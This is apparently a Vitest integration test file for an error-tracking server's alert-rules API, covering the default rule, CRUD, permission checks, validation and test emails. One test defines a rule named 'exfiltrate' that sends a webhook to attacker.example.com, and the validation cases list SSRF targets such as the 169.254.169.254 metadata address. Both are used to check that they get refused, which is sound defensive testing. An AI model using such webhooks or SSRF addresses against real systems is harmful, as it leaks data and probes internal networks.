import { join } from "node:path";
import Database from "better-sqlite3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { errorEvent, eventEnvelope } from "../_helpers/envelopes.ts";
import { eventually } from "../_helpers/sdk.ts";
import { hashApiToken, mintApiToken, tokenHint } from "../../src/api/tokens.ts";
import { SCOPES_BY_LEVEL } from "../../src/api/scopes.ts";
import { startTestServer, type TestServer } from "../_helpers/server.ts";
import { freePort, startTestSmtp, type TestSmtp } from "../_helpers/smtp.ts";
import { runThisFileOnSqlite } from "../_helpers/test-backend.ts";

runThisFileOnSqlite("breaks a rule by writing into the SQLite file");

describe("alert rules API", () => {
  let t: TestServer;
  let smtp: TestSmtp;
  const rules = "/api/0/projects/lighttrace/my-project/rules/";
  const json = (method: string, body: unknown) => ({ method, body: JSON.stringify(body) });

  beforeAll(async () => {
    smtp = await startTestSmtp();
    t = await startTestServer({ smtpUrl: smtp.url });
  });
  afterAll(async () => {
    await t?.close();
    await smtp?.close();
  });

  it("gives every new project the default rule: new issues and regressions, any environment, to the issue's owners, else the admins", async () => {
    const list = await t.api(rules);
    expect(list.status).toBe(200);
    expect(list.body).toEqual([expect.objectContaining({
      id: expect.any(String), name: "New issues and regressions", status: "active", isDefault: true, projects: ["my-project"],
      triggers: { newIssue: true, regression: true, spike: null, usersAffected: null },
      filters: { environments: [], levels: [], tags: [] },
      actions: [{ type: "email", to: [], includeAdmins: true, targetType: "IssueOwners", fallthroughType: "ActiveMembers" }],
      frequency: 30, dailyDigest: false,
    })]);
    const created = await t.api("/api/0/teams/lighttrace/default/projects/", json("POST", { name: "Billing API" }));
    expect(created.status).toBe(201);
    const theirs = await t.api("/api/0/projects/lighttrace/billing-api/rules/");
    expect(theirs.body).toHaveLength(1);
    expect(theirs.body[0].isDefault).toBe(true);
  });

  it("creates, reads, updates and deletes a rule", async () => {
    const body = {
      name: "Billing spikes",
      triggers: { spike: { minEvents: 50, factor: 3, windowMinutes: 10 }, usersAffected: { minUsers: 20 } },
      filters: { environments: ["production"], levels: ["error", "fatal"], tags: ["team:billing", "component:checkout"] },
      actions: [{ type: "email", to: ["billing@example.com"] }],
      frequency: 60,
    };
    const created = await t.api(rules, json("POST", body));
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      name: "Billing spikes", status: "active", isDefault: false,
      triggers: { newIssue: false, regression: false, spike: { minEvents: 50, factor: 3, windowMinutes: 10 }, usersAffected: { minUsers: 20, windowMinutes: 60 } },
      filters: body.filters, actions: [{ type: "email", to: ["billing@example.com"], includeAdmins: false }], frequency: 60,
    });
    const id = created.body.id;
    expect((await t.api(`${rules}${id}/`)).body.name).toBe("Billing spikes");

    const disabled = await t.api(`${rules}${id}/`, json("PUT", { status: "disabled" }));
    expect(disabled.status).toBe(200);
    expect(disabled.body).toMatchObject({ status: "disabled", name: "Billing spikes", frequency: 60 });

    expect((await t.api(`${rules}${id}/`, { method: "DELETE" })).status).toBe(204);
    expect((await t.api(`${rules}${id}/`)).status).toBe(404);
    // another project's rule id is not reachable through this project (a project of this test's own)
    const otherProject = await t.api("/api/0/teams/lighttrace/default/projects/", json("POST", { name: "Rule Isolation" }));
    expect(otherProject.status).toBe(201);
    const other = (await t.api(`/api/0/projects/lighttrace/${otherProject.body.slug}/rules/`)).body[0].id;
    expect((await t.api(`${rules}${other}/`)).status).toBe(404);
  });

  it("lets only admin tokens change rules or send test mail (a rule decides where event data goes)", async () => {
    const token = mintApiToken(t.url, "lighttrace", Math.floor(Date.now() / 1000));
    await t.server.store.createApiToken({ name: "ci", tokenHash: hashApiToken(token), tokenHint: tokenHint(token), scopes: [...SCOPES_BY_LEVEL.write] });
    const as = (path: string, init: RequestInit) => fetch(t.url + path, { ...init, headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" } });
    const rule = { name: "exfiltrate", triggers: { newIssue: true }, actions: [{ type: "webhook", url: "https://attacker.example.com/" }] };
    const post = await as(rules, { method: "POST", body: JSON.stringify(rule) });
    expect(post.status).toBe(403);
    expect((await post.json()).detail).toMatch(/needs "admin"/);
    expect((await as("/api/0/organizations/lighttrace/alerts/test-email/", { method: "POST", body: JSON.stringify({ to: "x@example.com" }) })).status).toBe(403);
    expect((await as(rules, { method: "GET" })).status).toBe(200);
  });

  it("answers bad rules with 400 naming what was wrong", async () => {
    const cases: [unknown, RegExp][] = [
      [{ name: "x", triggers: { newIssue: true }, actions: [] }, /actions.*at least one action/],
      [{ name: "x", triggers: {}, actions: [{ type: "email", to: ["a@example.com"] }] }, /triggers.*at least one trigger/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "email", to: ["not-an-address"] }] }, /actions\.0\.to\.0.*not an email address/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "email" }] }, /addresses in "to", includeAdmins: true or a targetType/],
      [{ name: "x", triggers: { spike: { minEvents: 0 } }, actions: [{ type: "email", to: ["a@example.com"] }] }, /triggers\.spike\.minEvents/],
      [{ name: "x", triggers: { newIssue: true }, filters: { tags: ["nocolon"] }, actions: [{ type: "email", to: ["a@example.com"] }] }, /key:value/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "sms", to: "1" }] }, /actions\.0/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "webhook", url: "ftp://example.com/" }] }, /http:\/\/ or https:\/\//],
      // SSRF: loopback, private and metadata addresses are refused unless allowed
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "webhook", url: "http://127.0.0.1:9/hook" }] }, /private or loopback/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "webhook", url: "http://169.254.169.254/latest/meta-data" }] }, /private or loopback/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "webhook", url: "http://[::1]/" }] }, /private or loopback/],
      [{ name: "x", triggers: { newIssue: true }, actions: [{ type: "webhook", url: "http://localhost:3000/" }] }, /is local/],
    ];
    for (const [body, detail] of cases) {
      const res = await t.api(rules, json("POST", body));
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.detail).toMatch(detail);
    }
    const notJson = await t.api(rules, { method: "POST", body: "{" });
    expect(notJson.status).toBe(400);
    expect(notJson.body.detail).toMatch(/not valid JSON/);
  });

  it("sends a test email and reports the SMTP answer in words", async () => {
    const ok = await t.api("/api/0/organizations/lighttrace/alerts/test-email/", json("POST", { to: "me@example.com" }));
    expect(ok.status).toBe(200);
    expect(ok.body.sent).toBe(true);
    expect(ok.body.message).toMatch(new RegExp(`^Sent: 127\\.0\\.0\\.1:${smtp.port} accepted the message for me@example\\.com \\(250 `));
    const mail = await eventually(async () => smtp.mails.find((m) => m.subject === "[LightTrace] Test message"));
    expect(mail.text).toMatch(/alert emails can reach me@example\.com/);
    const bad = await t.api("/api/0/organizations/lighttrace/alerts/test-email/", json("POST", { to: "nope" }));
    expect(bad.status).toBe(400);
    expect(bad.body.detail).toMatch(/"to".*not an email address/);
  });

  it("says why a test email did not go out when the SMTP server is down", async () => {
    const port = await freePort();
    const down = await startTestServer({ smtpUrl: `smtp://127.0.0.1:${port}` });
    const res = await down.api("/api/0/organizations/lighttrace/alerts/test-email/", json("POST", { to: "me@example.com" }));
    expect(res.body).toEqual({ sent: false, message: `Not sent: could not connect to 127.0.0.1:${port}: connection refused (is the SMTP server running on that port?)` });
  });
});

describe("a broken alert rule", () => {
  it("never costs the event: ingest stores it and the server logs the rule failure", async () => {
    const t = await startTestServer();
    // a rule definition damaged outside LightTrace (hand-edited database)
    const db = new Database(join(t.dataDir, "lighttrace.db"));
    db.prepare("UPDATE alert_rules SET definition = '{\"triggers\": 42}'").run();
    db.prepare("UPDATE settings SET value = value || '-edited' WHERE key = 'alert_rules_version'").run();
    db.close();
    t.expectLog(/ERROR alert rules failed on an event \(the event is stored\)/);
    const ev = errorEvent();
    const res = await fetch(`${t.url}/api/${t.projectId}/envelope/?sentry_key=${t.publicKey}`, { method: "POST", body: new Uint8Array(eventEnvelope(ev)) });
    expect(res.status).toBe(200);
    expect((await t.api(`/api/0/projects/lighttrace/my-project/events/${ev.event_id}/`)).status).toBe(200);
  });
});
